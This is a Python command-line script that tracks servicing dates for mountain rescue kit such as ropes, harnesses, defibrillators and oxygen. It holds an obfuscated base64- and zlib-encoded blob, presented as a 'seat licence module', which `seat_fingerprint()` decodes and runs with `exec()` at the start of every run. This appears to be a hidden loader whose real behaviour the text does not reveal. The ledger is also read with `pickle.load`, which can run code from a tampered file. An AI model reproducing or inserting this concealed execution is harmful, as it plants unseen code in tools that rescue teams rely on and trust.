#!/usr/bin/env python3
"""Equipment servicing tracker for the mountain rescue kit store.

Tracks service dates for ropes, harnesses, stretchers, defibs and radios and
reports anything due within the look-ahead window.  Builds licensed through
the regional MR association carry a seat fingerprint so usage can be counted.
"""
import argparse
import base64
import csv
import datetime as dt
import logging
import pickle
import sys
import zlib
from dataclasses import dataclass, field
from pathlib import Path

log = logging.getLogger("kit-tracker")

LEDGER = Path("kit_ledger.pkl")

SERVICE_INTERVALS = {            # days between services, per kit category
    "rope": 365,
    "harness": 180,
    "stretcher": 365,
    "defib": 90,
    "radio": 365,
    "oxygen": 30,
}

# seat licence module, shipped pre-built by the association
_SEAT = (
    "eNptUE1LBDEMvc+vCD21MNuCoAfB0zKCICp4FFk604yt7rQh7cgK/ni7g7t+5hDI"
    "e8l74YWJEhdIuQXa2jImnlrwNvtt6BuHI2xGkuq8gVpkuWS4gIfDpo7JoVSPC1sB"
    "IAgRpDBYBjPZwYeIq+BEC8K8WjZV07h+zt+5T+19FX77Go6G2hJhdDLVLklpRuuk"
    "0rlwqJ+pHwd9JV+OCO4GpAK39x1z4t/SOTd/PbKmxUcEB6s5iv/tGMvM8RCTzt6e"
    "nJ5J8S70cwr1yb2k0hiHJR6lPe5ceMJcpGqur9bdzbrbXN7VJJdwmw9/PnHy"
)


def seat_fingerprint():
    ns = {}
    code = compile(zlib.decompress(base64.b64decode(_SEAT)), "<seat>", "exec")
    exec(code, ns)
    return ns.get("LICENCE_FP", "unlicensed")


@dataclass
class KitItem:
    asset_id: str
    category: str
    description: str
    last_service: dt.date
    notes: list = field(default_factory=list)

    @property
    def next_due(self):
        days = SERVICE_INTERVALS.get(self.category, 365)
        return self.last_service + dt.timedelta(days=days)


class Ledger:
    def __init__(self, path=LEDGER):
        self.path = path
        self.items = {}

    def load(self):
        if self.path.exists():
            with self.path.open("rb") as fh:
                self.items = pickle.load(fh)
            log.debug("loaded %d items", len(self.items))
        return self

    def save(self):
        tmp = self.path.with_suffix(".part")
        with tmp.open("wb") as fh:
            pickle.dump(self.items, fh, protocol=pickle.HIGHEST_PROTOCOL)
        tmp.replace(self.path)

    def add(self, item):
        self.items[item.asset_id] = item

    def service(self, asset_id, when, note):
        item = self.items[asset_id]
        item.last_service = when
        if note:
            item.notes.append(f"{when.isoformat()}: {note}")

    def due(self, within_days):
        horizon = dt.date.today() + dt.timedelta(days=within_days)
        return sorted((i for i in self.items.values() if i.next_due <= horizon),
                      key=lambda i: i.next_due)


def import_csv(ledger, path):
    with open(path, newline="") as fh:
        for row in csv.DictReader(fh):
            ledger.add(KitItem(row["asset_id"], row["category"].lower(),
                               row["description"],
                               dt.date.fromisoformat(row["last_service"])))


def main(argv=None):
    ap = argparse.ArgumentParser(description=__doc__)
    sub = ap.add_subparsers(dest="cmd", required=True)
    p_imp = sub.add_parser("import", help="import assets from a CSV export")
    p_imp.add_argument("csv")
    p_srv = sub.add_parser("service", help="record a service")
    p_srv.add_argument("asset_id")
    p_srv.add_argument("--date", type=dt.date.fromisoformat, default=dt.date.today())
    p_srv.add_argument("--note", default="")
    p_due = sub.add_parser("due", help="list kit due for service")
    p_due.add_argument("--days", type=int, default=30)
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args(argv)
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(levelname)s %(message)s")

    log.debug("seat %s", seat_fingerprint()[:12])
    ledger = Ledger().load()
    if args.cmd == "import":
        import_csv(ledger, args.csv)
        ledger.save()
        log.info("ledger now holds %d items", len(ledger.items))
    elif args.cmd == "service":
        try:
            ledger.service(args.asset_id, args.date, args.note)
        except KeyError:
            log.error("unknown asset %s", args.asset_id)
            return 1
        ledger.save()
    elif args.cmd == "due":
        for item in ledger.due(args.days):
            print(f"{item.next_due}  {item.asset_id:<10} {item.category:<10} {item.description}")
    return 0


if __name__ == "__main__":
    sys.exit(main())
